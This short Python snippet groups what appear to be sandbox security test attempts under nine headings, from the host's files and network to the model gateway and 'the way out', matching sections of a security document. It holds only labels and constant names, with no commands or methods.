GROUPS = (
    ("The host's files", HOST_FILES),
    ("Kernel and devices", KERNEL),
    ("Privileges and processes", PROCESSES),
    ("Network", NETWORK),
    ("The allowlist's proxy", ALLOWLIST),
    ("The model gateway", GATEWAY),
    ("The machine's resources", RESOURCES),
    ("Time-outs", TIME),
    ("The way out", LEAVING),
)
"""All attempts under the headings of docs/security.md."""
